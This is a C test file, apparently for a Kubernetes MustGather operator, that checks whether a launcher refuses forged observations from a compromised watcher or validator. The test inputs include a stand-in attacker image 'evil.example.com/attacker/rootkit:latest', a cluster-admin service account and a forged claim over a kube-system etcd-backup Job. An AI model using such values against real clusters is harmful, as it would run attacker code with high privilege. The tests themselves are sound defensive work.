	for (;;) {
		json_t *lines = cluster_log_events(&cl, "ipc"), *l, *found = NULL;
		size_t i;

		json_array_foreach(lines, i, l) {
			const char *to = cl_str(l, "to");
			if (to && strcmp(to, "validator") == 0 &&
			    json_integer_value(json_object_get(l, "seq")) == (json_int_t)want)
				found = json_incref(l);
		}
		json_decref(lines);
		if (found)
			return found;
		cr_assert(mgo_now_ms() < end, "the validator never logged Observe %llu",
			  (unsigned long long)want);
		zmq_poll(NULL, 0, 10); /* a log file: nothing to wait on */
	}
}

/* Sends o as the watcher would: again while the validator answers that
 * its link to the launcher is not up yet (it says "the watcher will
 * observe again"; the real one does, on its resend timer). */
static void send_observe(struct mgo_observe *o)
{
	uint64_t end = mgo_now_ms() + CL_WAIT_MS;

	for (;;) {
		struct mgo_ipc_msg m = {.type = MGO_IPC_OBSERVE, .u.observe = *o};
		json_t *line;
		bool again;

		m.trace_uid = o->mg.uid;
		m.trace_gen = o->mg.generation;
		send_msg(as_watcher, &m);
		line = validator_line(m.seq);
		again = cl_str(line, "result") &&
			strstr(cl_str(line, "result"), "launcher unavailable") != NULL;
		json_decref(line);
		if (!again)
			return;
		cr_assert(mgo_now_ms() < end, "the validator's link to the launcher never came up");
		zmq_poll(NULL, 0, 50);
	}
}

Test(compromised, forged_observes_make_no_job_and_delete_nothing)
{
	char *evil[] = {"evil.example.com/attacker/rootkit:latest"};
	struct mgo_observe o = {.service_account = MGO_PRESENCE_PRESENT,
				.pvc = MGO_PRESENCE_PRESENT,
				.job = {.gather_exit = -1, .upload_exit = -1}};
	json_t *etcd, *line;

	/* the first finding: a MustGather asking for nothing, and an
	 * Observe saying it asks for an evil image as a powerful account,
	 * with an allowlist (there is none) listing it */
	json_decref(cluster_create_mg(&cl, "mg1", "{}"));
	read_mg("mg1", &o.mg);
	set(&o.mg.spec.image, evil[0]);
	set(&o.mg.spec.service_account, "cluster-admin-robot");
	o.allowlist = (struct mgo_allowlist){.present = true, .generation = 1, .n_images = 1,
					     .images = evil};
	send_observe(&o);
	line = cluster_wait_log(&cl, "launcher.refused", ++refusals);
	cr_assert_str_eq(cl_str(line, "check"), "image", "%s", cl_str(line, "msg"));
	json_decref(line);
	o.allowlist = (struct mgo_allowlist){0};
	mgo_mg_free(&o.mg);

	/* the second: a made-up finished MustGather in kube-system whose
	 * "Job" is the platform's backup */
	etcd = foreign_job("kube-system/etcd-backup");
	o.mg = (struct mgo_mg){.ns = dup("kube-system"), .name = dup("etcd-backup"),
			       .uid = dup("6a1b0e2c-0000-4000-8000-000000000002"),
			       .resource_version = dup("1"), .generation = 1,
			       .phase = MGO_MG_COMPLETED};
	o.job = (struct mgo_job_state){.phase = MGO_JOB_SUCCEEDED, .name = dup("etcd-backup"),
				       .uid = dup(cl_uid(etcd)), .gather_exit = 0,
				       .upload_exit = -1};
	send_observe(&o);
	line = cluster_wait_log(&cl, "launcher.refused", ++refusals);
	cr_assert_str_eq(cl_str(line, "check"), "mustgather", "%s", cl_str(line, "msg"));
	json_decref(line);
	mgo_observe_free(&o);

	cr_assert_eq(launcher_writes(), 0, "a forged observation wrote something");
	cr_assert_eq(cluster_jobs_created(&cl), 0);
	expect_job_exists("kube-system/etcd-backup");
	json_decref(etcd);
	genuine_launch_obeyed("mg1", CL_DEFAULT_IMAGE);
}

/* A compromised watcher's claim that an ordinary MustGather is too large
 * to read: the real validator fails it as ObjectTooLarge, and the
 * launcher, measuring the MustGather it reads itself, refuses to write
 * that (docs/monitor.md, check too_large). */
Test(compromised, a_forged_too_large_claim_fails_nothing)
{
	struct mgo_observe o = {.service_account = MGO_PRESENCE_PRESENT,
				.pvc = MGO_PRESENCE_PRESENT,
				.job = {.gather_exit = -1, .upload_exit = -1}};
	json_t *line, *mg;

	json_decref(cluster_create_mg(&cl, "mg1", "{}"));
	read_mg("mg1", &o.mg);
	mgo_mg_spec_free(&o.mg.spec); /* as the watcher sends one it did not read */
	o.mg.too_large_bytes = 1 << 20;
	send_observe(&o);
	line = cluster_wait_log(&cl, "launcher.refused", ++refusals);
	cr_assert_str_eq(cl_str(line, "check"), "too_large", "%s", cl_str(line, "msg"));
	cr_assert_str_eq(cl_str(line, "act"), "deny");
	json_decref(line);
	mgo_observe_free(&o);

	cr_assert_eq(launcher_writes(), 0, "a forged claim wrote something");
	mg = get(cl_mg_path(&cl, "mg1", (char[512]){0}));
	cr_assert_null(cl_at(mg, "status.status"), "mg1's status was written");
	json_decref(mg);
	genuine_launch_obeyed("mg1", CL_DEFAULT_IMAGE);
}

/* A compromised watcher's claim that the PersistentVolumeClaim a MustGather
 * names does not exist: the real validator denies it as InvalidSpec, and
 * the launcher, reading the claim itself, refuses to write that
 * (docs/monitor.md, check pvc_claim). Once the claim is really gone, the
 * same denial is obeyed. */
Test(compromised, a_forged_missing_claim_fails_nothing)
{
	static const char spec[] = "{\"storage\":{\"type\":\"PersistentVolume\","
				   "\"persistentVolume\":{\"claim\":{\"name\":\"gather-pvc\"}}}}";
	struct mgo_observe o = {.service_account = MGO_PRESENCE_PRESENT,
				.pvc = MGO_PRESENCE_ABSENT,
				.job = {.gather_exit = -1, .upload_exit = -1}};
	char path[512];
	json_t *line, *mg;

	cluster_create_pvc(&cl, "gather-pvc");
	json_decref(cluster_create_mg(&cl, "mg1", spec));
	read_mg("mg1", &o.mg);
	send_observe(&o);
	line = cluster_wait_log(&cl, "launcher.refused", ++refusals);
	cr_assert_str_eq(cl_str(line, "check"), "pvc_claim", "%s", cl_str(line, "msg"));
	cr_assert_str_eq(cl_str(line, "act"), "deny");
	json_decref(line);

	cr_assert_eq(launcher_writes(), 0, "a forged claim wrote something");
	mg = get(cl_mg_path(&cl, "mg1", path));
	cr_assert_null(cl_at(mg, "status.status"), "mg1's status was written");
	json_decref(mg);

	/* the claim deleted, the same observation is the truth: obeyed */
	snprintf(path, sizeof(path), "/api/v1/namespaces/%s/persistentvolumeclaims/gather-pvc",
		 cl.ns);
	cluster_delete(&cl, path);
	cluster_wait_gone(&cl, path, "the claim");
	send_observe(&o);
	mg = cluster_wait_mg(&cl, "mg1", "Failed");
	cr_expect_str_eq(cl_str(mg, "status.reason"), MGO_REASON_INVALID_SPEC);
	json_decref(mg);
	mgo_observe_free(&o);
}

/* A compromised validator's StorageReady condition: it says the claim of a
 * Running MustGather is Pending while it is Bound (or Bound while it is
 * Pending). The launcher reads the claim itself and refuses both (check
 * pvc_phase), writing nothing; the true condition is obeyed. */
Test(compromised, a_forged_pending_claim_writes_nothing)
{
	static const char spec[] = "{\"storage\":{\"type\":\"PersistentVolume\","
				   "\"persistentVolume\":{\"claim\":{\"name\":\"gather-pvc\"}}}}";
	char path[512], sub[560], msg[512];
	struct mgo_act a;
	json_t *resp = NULL, *mg, *running = json_pack("{s:{s:s}}", "status", "status", "Running");
	size_t writes;

	cluster_create_pvc(&cl, "gather-pvc"); /* Bound */
	json_decref(cluster_create_mg(&cl, "mg1", spec));
	/* launched, as far as its status goes (the watcher's part is ours) */
	snprintf(sub, sizeof(sub), "%s/status", cl_mg_path(&cl, "mg1", path));
	cr_assert_eq(cluster_api(&cl, "PATCH", sub, "application/merge-patch+json", running, &resp),
		     200);
	json_decref(running);
	json_decref(resp);

	a = act_about(MGO_ACT_CLAIM_STATUS, "mg1");
	a.reason = dup(mgo_claim_condition(MGO_CLAIM_PENDING, "gather-pvc", msg, sizeof(msg)));
	a.message = dup(msg);
	expect_refused(&a, "pvc_phase");
	cr_assert_eq(launcher_writes(), 0, "a forged condition wrote something");
	mg = get(path);
	cr_assert_null(cl_find(cl_at(mg, "status.conditions"), "type", "StorageReady"),
		       "mg1's StorageReady was written");
	json_decref(mg);

	/* the claim really Pending: the same act is the truth, obeyed */
	cluster_pvc_phase(&cl, "gather-pvc", "Pending");
	send_act(&a);
	json_decref(cluster_wait_mg_condition(&cl, "mg1", "StorageReady", "False",
					      MGO_REASON_CLAIM_PENDING));
	/* its last write, the Event, done before the writes are counted */
	json_decref(cluster_wait_event(&cl, "mg1", MGO_REASON_CLAIM_PENDING));
	mgo_act_free(&a);

	/* and now a forged Bound for the Pending claim */
	writes = launcher_writes();
	a = act_about(MGO_ACT_CLAIM_STATUS, "mg1");
	a.reason = dup(mgo_claim_condition(MGO_CLAIM_BOUND, "gather-pvc", msg, sizeof(msg)));
	a.message = dup(msg);
	expect_refused(&a, "pvc_phase");
	cr_assert_eq(launcher_writes(), writes, "a forged Bound wrote something");
	mgo_act_free(&a);
	mg = get(path);
	cr_expect_str_eq(cl_str(cl_find(cl_at(mg, "status.conditions"), "type", "StorageReady"),
				"reason"),
			 MGO_REASON_CLAIM_PENDING);
	json_decref(mg);
}
